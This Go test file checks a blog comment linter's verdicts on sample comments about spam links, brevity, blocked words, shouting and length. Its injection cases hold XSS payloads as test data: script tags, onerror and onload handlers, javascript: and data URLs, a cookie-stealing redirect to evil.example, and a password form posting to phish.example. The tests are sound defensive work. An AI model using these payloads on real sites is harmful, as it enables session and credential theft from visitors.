package comments

import (
	"fmt"
	"strings"
	"testing"

	"github.com/blogen/blogen/internal/config"
)

// Paragraphs that carry a comment's substance, reused by the cases below.
const (
	bankStory = "I ran the social care team at a regional bank for three years, and the hardest " +
		"cases were exactly the ones you describe: people we could not identify, saying things " +
		"we could not answer in public. What worked for us was a short, kind reply with a way " +
		"to reach a named person."
	avatarStory = "Your point about avatars matches what we saw when our agents switched from the " +
		"logo to their own photos. Replies got warmer within a week, and fewer threads turned " +
		"into arguments, because people write differently to a face."
)

// lintCase is one comment, the verdict the default policy gives it and the
// rule that must be among its findings ("" for publish: no findings).
type lintCase struct {
	name    string
	body    string
	verdict Verdict
	rule    string
}

// lintCases are realistic comments under the default policy. They also seed
// FuzzLint.
var lintCases = []lintCase{
	// Comments that add value.
	{"thoughtful without links", bankStory + "\n\n" + avatarStory, Publish, ""},
	{"one wikipedia link", bankStory + " There is a fair summary of the research at https://en.wikipedia.org/wiki/Cyberbullying if anyone wants the background.", Publish, ""},
	{"markdown link to hbr", avatarStory + " [This HBR piece on service recovery](https://hbr.org/2019/11/the-right-way-to-recover-from-a-service-failure) makes the same argument with numbers.", Publish, ""},
	{"the same link twice counts once", bankStory + " See https://en.wikipedia.org/wiki/Customer_service and, for the history, https://www.en.wikipedia.org/wiki/Customer_service/#History.", Publish, ""},
	{"reply quoting the post", "> Should there be ethical guidelines for internet users?\n\nI think there should, but they will only work if the platforms enforce them. Most of the attacks we saw came from accounts created the same day, which a platform can spot and a company cannot.", Publish, ""},
	{"reply with a mention", "@Frank I agree with most of this, but banks can say more than people think: you cannot discuss an account, yet you can say the public claim is not accurate and invite the person to talk privately.", Publish, ""},
	{"dated blog path", avatarStory + " We wrote up the numbers here: https://www.northwind-support.example/2013/06/what-happened-when-we-used-real-photos/", Publish, ""},
	{"linkedin pulse article", bankStory + " I expanded on this in https://www.linkedin.com/pulse/customer-experience-role-frank-eliason", Publish, ""},
	{"wordpress post id", avatarStory + " Our team's notes from that change are at http://blog.contoso-care.example/?p=1234", Publish, ""},
	{"edu paper", bankStory + " A study on online hostility toward brands: https://www.stanford.edu/~jlee/papers/hostility-toward-brands.pdf", Publish, ""},
	{"html anchor to an article", avatarStory + ` The usability side is covered well in <a href="https://www.nngroup.com/articles/tone-of-voice-dimensions/">this NN/g article</a>.`, Publish, ""},
	{"relative link to another post", bankStory + " It connects to [your earlier post on Twitter avatars](/posts/social-media-is-personal/).", Publish, ""},
	{"code span showing html", "The comment form should escape `<script>` and `<iframe>` tags and strip `onerror=` attributes before anything reaches the page, which is why we render comments in a safe mode.", Publish, ""},
	{"fenced code block", "Our moderation bot flags links with this rule, which may help others:\n\n```\nif strings.Contains(url, \"utm_\") { hold() }\n```\n\nIt catches most affiliate spam without blocking real articles.", Publish, ""},
	{"the dot com bubble is prose", "Back in the early dot com days nobody had a social media policy at all, and companies learned the hard way that a single angry forum thread could outrank their own website for years.", Publish, ""},
	{"javascript the language is prose", "Reading Crockford's JavaScript: The Good Parts changed how our team wrote the comment widget, mostly because it taught us to distrust anything a visitor types.", Publish, ""},
	{"spanish, long", "Estoy de acuerdo con casi todo. En mi empresa aprendimos que responder con amabilidad, incluso a los ataques injustos, convence a los demás lectores aunque no convenza al que ataca.", Publish, ""},
	{"german, long", "Sehr guter Punkt zur Freundlichkeit. Wir haben im Kundendienst gelernt, dass eine ruhige Antwort mit einer direkten Telefonnummer fast immer mehr bewirkt als eine lange Rechtfertigung.", Publish, ""},
	{"japanese, long", "とても参考になりました。私の会社でも、匿名の批判に対して丁寧に返信し、直接連絡できる窓口を案内するようにしたところ、炎上が大幅に減りました。", Publish, ""},

	// Brief comments and praise without substance.
	{"good post", "good post", Reject, RuleBrief},
	{"great article with exclamations", "Great article!!", Reject, RuleBrief},
	{"plus one", "+1", Reject, RuleBrief},
	{"stretched praise with emoji", "Greeeeat post!!! 👍👍👍", Reject, RuleBrief},
	{"french praise", "Super article !", Reject, RuleBrief},
	{"spanish praise", "Muy buen post", Reject, RuleBrief},
	{"german praise", "Sehr guter Beitrag", Reject, RuleBrief},
	{"chinese praise", "很好的文章", Reject, RuleBrief},
	{"long praise", "Great article!! Thank you so much for sharing this with all of us, I really enjoyed reading it and appreciate the information, keep up the good work Frank!", Reject, RuleBrief},
	{"brief reply", "@Frank Agreed! 100%", Reject, RuleBrief},
	{"quote and a thumbs up", "> It is best to kill them with kindness.\n\nSo true!", Reject, RuleBrief},
	{"empty", "  \n\n\t ", Reject, RuleEmpty},

	// Links.
	{"two educational links", bankStory + " See https://en.wikipedia.org/wiki/Cyberbullying and https://hbr.org/2019/11/the-right-way-to-recover-from-a-service-failure for more.", Reject, RuleTooManyLinks},
	{"link in a quote counts", "> Read https://en.wikipedia.org/wiki/Netiquette first.\n\n" + bankStory + " Also https://hbr.org/2019/11/the-right-way-to-recover-from-a-service-failure", Reject, RuleTooManyLinks},
	{"amazon product", bankStory + " The book that taught me this is at https://www.amazon.com/Kill-Them-Kindness/dp/B00EXAMPLE", Reject, RuleCommercialLink},
	{"pricing page", avatarStory + " Our tool automates exactly this: https://acme-social.example/pricing", Reject, RuleCommercialLink},
	{"shop subdomain", avatarStory + " We used templates from https://shop.brandkit.example/templates/avatars-pack-for-support-teams", Reject, RuleCommercialLink},
	{"amazon in another country", "Estoy de acuerdo con casi todo. En mi empresa aprendimos que responder con amabilidad convence a los demás lectores. El libro: https://www.amazon.es/dp/B00EJEMPLO", Reject, RuleCommercialLink},
	{"utm parameters", bankStory + " More at https://growthlab.example/blog/kindness-wins?utm_source=blog&utm_medium=comment", Reject, RuleTrackingLink},
	{"affiliate ref", avatarStory + " This camera made our photos look professional: https://gadgets.example/reviews/best-webcams-for-support-agents-2013?ref=frank42", Reject, RuleTrackingLink},
	{"company home page", bankStory + " If you need help with this, https://www.acme-reputation.example/ does it for banks.", Reject, RuleHomepageLink},
	{"bare www home page", avatarStory + " Our agency does this: www.brightpixel-agency.example", Reject, RuleHomepageLink},
	{"upper-case url to products", avatarStory + " HTTP://WWW.WEBCAMS.EXAMPLE/PRODUCTS/HD-2000", Reject, RuleCommercialLink},
	{"not clearly an article", bankStory + " Our team is listed at https://example.org/about/team", Hold, RuleNonArticleLink},
	{"mailto link", bankStory + " [Write to me](mailto:ana@example.org) if you want our escalation template.", Hold, RuleNonArticleLink},
	{"shortened link", avatarStory + " We published the results: https://bit.ly/3kYdX9q", Hold, RuleShortener},
	{"anchor names another site", bankStory + " Background: [wikipedia.org](https://shop.example.com/buy)", Reject, RuleDeceptiveLink},
	{"html anchor names another site", avatarStory + ` Source: <a href="https://cheap-pills.example/page">https://en.wikipedia.org/wiki/Trust</a>`, Reject, RuleDeceptiveLink},
	{"host hidden behind user info", bankStory + " See https://en.wikipedia.org@landing.example/wiki/Customer_service", Reject, RuleDeceptiveLink},
	{"bbcode link", bankStory + " [url=https://followers.example/buy]get real followers[/url]", Reject, RuleCommercialLink},
	{"bbcode with two links", bankStory + " [url]https://en.wikipedia.org/wiki/Netiquette[/url] [url=https://hbr.org/2019/11/the-right-way-to-recover-from-a-service-failure]HBR[/url]", Reject, RuleTooManyLinks},
	{"obfuscated dot", bankStory + " For more followers visit cheapfollowers dot com today.", Reject, RuleObfuscatedLink},
	{"obfuscated brackets", avatarStory + " Details at growthhacks[.]io/avatars", Reject, RuleObfuscatedLink},
	{"obfuscated parenthesised dot", avatarStory + " Details at growthhacks (dot) net", Reject, RuleObfuscatedLink},
	{"obfuscated spaced scheme", bankStory + " h t t p s : / / s p a m m y . c o m", Reject, RuleObfuscatedLink},
	{"obfuscated mangled scheme", bankStory + " hxxps://spammy.example/offer", Reject, RuleObfuscatedLink},
	{"obfuscated full-width", avatarStory + " ｃｈｅａｐｌｉｋｅｓ．ｃｏｍ", Reject, RuleObfuscatedLink},
	{"mostly link text", "Worth reading on this: [the complete guide to handling angry customers on social media without losing your mind or your brand](https://example.com/blog/angry-customers-guide)", Reject, RuleLinkPromotion},
	{"a line and a link", "Good points on kindness, I wrote a longer guide covering it: https://growthlab.example/blog/kindness-wins-customers-back-online", Reject, RuleLinkPromotion},
	{"self-promotion", bankStory + " I wrote more about this on my blog: https://janedoe.example/blog/kindness-at-scale", Hold, RuleSelfPromotion},

	// Words and tone.
	{"blocked word", "My cousin lost his savings at an online casino and their support team ignored his tweets for weeks; kindness alone would not have fixed that, but an answer would have helped.", Reject, RuleBlockedWord},
	{"blocked phrase across a line break", bankStory + " Unlike the payday\nloan companies, we answered.", Reject, RuleBlockedWord},
	{"hold word", "Honestly the whole influencer program felt like a scam to me at first, but your post shows how republishing with attribution can work for both sides.", Hold, RuleHoldWord},
	{"shouting", "I HAVE BEEN A CUSTOMER FOR TEN YEARS AND NOBODY EVER ANSWERS THE PHONE WHEN I CALL ABOUT MY ACCOUNT", Hold, RuleShouting},

	// Markup and script injection.
	{"script element", "<script>alert('xss')</script>\n\n" + bankStory, Reject, RuleInjection},
	{"image with onerror", avatarStory + ` <img src=x onerror=alert(1)>`, Reject, RuleInjection},
	{"javascript markdown link", avatarStory + " [see the study](javascript:alert(document.cookie))", Reject, RuleInjection},
	{"entity-encoded javascript", avatarStory + ` <a href="jav&#x09;ascript:alert(1)">the study</a>`, Reject, RuleInjection},
	{"javascript with spaces", avatarStory + " [see the study](java script:alert(1))", Reject, RuleInjection},
	{"iframe", bankStory + "\n\n<iframe src=\"https://evil.example/frame\"></iframe>", Reject, RuleInjection},
	{"style attribute", `<p style="position:fixed;top:0;left:0;width:100%">` + bankStory + `</p>`, Reject, RuleInjection},
	{"svg onload", avatarStory + ` <svg onload=alert(1)>`, Reject, RuleInjection},
	{"css expression", bankStory + ` <span class="x">width: expression(alert(1))</span>`, Reject, RuleInjection},
	{"encoded script text", bankStory + " &lt;script&gt;document.location='https://evil.example/?c='+document.cookie&lt;/script&gt;", Reject, RuleInjection},
	{"data url", avatarStory + " [the chart](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", Reject, RuleInjection},
	{"form", bankStory + "\n\n<form action=\"https://phish.example/login\"><input name=password></form>", Reject, RuleInjection},
}

func defaultLinter(t testing.TB) *Linter {
	t.Helper()
	l, err := NewLinter(config.DefaultPolicy())
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func TestLint(t *testing.T) {
	l := defaultLinter(t)
	for _, tc := range lintCases {
		t.Run(tc.name, func(t *testing.T) {
			r := l.Lint([]byte(tc.body))
			if r.Verdict != tc.verdict {
				t.Errorf("verdict %s, want %s; findings %v", r.Verdict, tc.verdict, r.Findings)
			}
			if tc.rule == "" && len(r.Findings) > 0 {
				t.Errorf("findings %v, want none", r.Findings)
			}
			if tc.rule != "" && !r.Has(tc.rule) {
				t.Errorf("rules %v, want %s among them; findings %v", r.Rules(), tc.rule, r.Findings)
			}
		})
	}
}

func TestLintCaseCount(t *testing.T) {
	if len(lintCases) < 40 {
		t.Errorf("%d lint cases; the table needs at least 40", len(lintCases))
	}
}

func TestLintMessages(t *testing.T) {
	l := defaultLinter(t)
	tests := []struct {
		body string
		want Finding
	}{
		{bankStory + " https://en.wikipedia.org/wiki/A https://en.wikipedia.org/wiki/B",
			Finding{RuleTooManyLinks, Reject, "2 links; the policy allows 1"}},
		{"good post", Finding{RuleBrief, Reject, "2 words of comment; the policy asks for at least 8"}},
		{bankStory + " [wikipedia.org](https://shop.example.com/buy)",
			Finding{RuleDeceptiveLink, Reject, "link text names wikipedia.org but the link goes to shop.example.com"}},
		{bankStory + " https://acme.example/pricing",
			Finding{RuleCommercialLink, Reject, "link acme.example/pricing goes to a commercial page (/pricing), not to an article"}},
	}
	for _, tc := range tests {
		r := l.Lint([]byte(tc.body))
		found := false
		for _, f := range r.Findings {
			found = found || f == tc.want
		}
		if !found {
			t.Errorf("Lint(%.30q...) = %v, want %v among them", tc.body, r.Findings, tc.want)
		}
	}
}

func TestLintPolicySettings(t *testing.T) {
	base := config.DefaultPolicy()
	tests := []struct {
		name    string
		edit    func(*config.Policy)
		body    string
		verdict Verdict
	}{
		{"more links allowed", func(p *config.Policy) { p.MaxLinks = 2 },
			bankStory + " See https://en.wikipedia.org/wiki/A and https://en.wikipedia.org/wiki/B", Publish},
		{"no links allowed", func(p *config.Policy) { p.MaxLinks = 0 },
			bankStory + " See https://en.wikipedia.org/wiki/A", Reject},
		{"word count off", func(p *config.Policy) { p.MinWords = 0; p.BriefPhrases = nil; p.PraiseWords = nil },
			"Interesting angle.", Publish},
		{"own educational domain", func(p *config.Policy) { p.EducationalDomains = append(p.EducationalDomains, "contoso.example") },
			bankStory + " https://contoso.example/about/research", Publish},
		{"own blocked word", func(p *config.Policy) { p.BlockedWords = []string{"follower*"} },
			bankStory + " Buy followers cheaply.", Reject},
		{"shouting off", func(p *config.Policy) { p.ShoutingRatio = 0 },
			"I HAVE BEEN A CUSTOMER FOR TEN YEARS AND NOBODY EVER ANSWERS THE PHONE WHEN I CALL", Publish},
		{"own tracking parameter", func(p *config.Policy) { p.TrackingParams = []string{"src"} },
			bankStory + " https://en.wikipedia.org/wiki/A?src=mail", Reject},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := base
			p.EducationalDomains = append([]string(nil), base.EducationalDomains...)
			tc.edit(&p)
			l, err := NewLinter(p)
			if err != nil {
				t.Fatal(err)
			}
			if r := l.Lint([]byte(tc.body)); r.Verdict != tc.verdict {
				t.Errorf("verdict %s, want %s; findings %v", r.Verdict, tc.verdict, r.Findings)
			}
		})
	}
}

// TestPolicyFromSiteTOML checks that the policy keys of site.toml reach the
// linter.
func TestPolicyFromSiteTOML(t *testing.T) {
	src := `title = "T"
base_url = "https://blog.example.org"

[comments]
auto_approve = true

[comments.policy]
max_links = 2
min_words = 5
min_words_per_link = 5
educational_domains = ["contoso.example"]
article_paths = ["/notes"]
commercial_domains = ["fabrikam.example"]
blocked_words = ["follower*"]
praise_words = []
promotion_phrases = []
max_chars = 400
shouting_min_letters = 10
`
	cfg, err := config.Parse([]byte(src), "site.toml")
	if err != nil {
		t.Fatal(err)
	}
	l, err := NewLinter(cfg.Comments.Policy)
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct {
		body string
		want Verdict
		rule string
	}{
		{bankStory + " https://contoso.example/ https://example.org/notes/calm-replies", Publish, ""},
		{"We tried kind replies for a month: https://example.org/notes/calm-replies", Publish, ""},
		{bankStory + " https://en.wikipedia.org/wiki/A", Hold, RuleNonArticleLink},
		{bankStory + " https://fabrikam.example/blog/a-long-article-about-kindness", Reject, RuleCommercialLink},
		{bankStory + " We never bought followers.", Reject, RuleBlockedWord},
		{strings.Repeat(bankStory+" ", 2), Hold, RuleTooLong},
		{"NO ONE ANSWERS MY CALLS", Hold, RuleShouting},
	}
	for _, tc := range tests {
		r := l.Lint([]byte(tc.body))
		if r.Verdict != tc.want || (tc.rule != "" && !r.Has(tc.rule)) {
			t.Errorf("Lint(%.40q...) = %s %v, want %s [%s]", tc.body, r.Verdict, r.Findings, tc.want, tc.rule)
		}
	}
}

func TestLintTooLong(t *testing.T) {
	l := defaultLinter(t)
	long, huge := strings.Repeat(bankStory+"\n\n", 40), strings.Repeat(bankStory+"\n\n", 120)
	tests := []struct {
		name string
		body string
		want Finding
	}{
		{"over the policy", long,
			Finding{RuleTooLong, Hold, fmt.Sprintf("%d characters; the policy allows 10000", len(long))}},
		{"over what is checked", huge,
			Finding{RuleTooLong, Hold, fmt.Sprintf("%d bytes; only the first 32768 were checked", len(huge))}},
	}
	for _, tc := range tests {
		r := l.Lint([]byte(tc.body))
		if r.Verdict != Hold || len(r.Findings) != 1 || r.Findings[0] != tc.want {
			t.Errorf("%s: %v, want hold with %v", tc.name, r.Findings, tc.want)
		}
	}
}

func TestNewLinterRejectsBadPolicy(t *testing.T) {
	tests := []struct {
		name string
		edit func(*config.Policy)
		want string
	}{
		{"negative links", func(p *config.Policy) { p.MaxLinks = -1 }, "max_links"},
		{"ratio above one", func(p *config.Policy) { p.ShoutingRatio = 1.5 }, "shouting_ratio"},
		{"negative words per link", func(p *config.Policy) { p.MinWordsPerLink = -3 }, "min_words_per_link"},
	}
	for _, tc := range tests {
		p := config.DefaultPolicy()
		tc.edit(&p)
		_, err := NewLinter(p)
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: NewLinter error %v, want one naming %s", tc.name, err, tc.want)
		}
	}
}

func TestLintConcurrent(t *testing.T) {
	l := defaultLinter(t)
	done := make(chan Result, len(lintCases))
	for _, tc := range lintCases {
		go func() { done <- l.Lint([]byte(tc.body)) }()
	}
	for range lintCases {
		if r := <-done; !r.Verdict.Valid() {
			t.Errorf("verdict %q", r.Verdict)
		}
	}
}
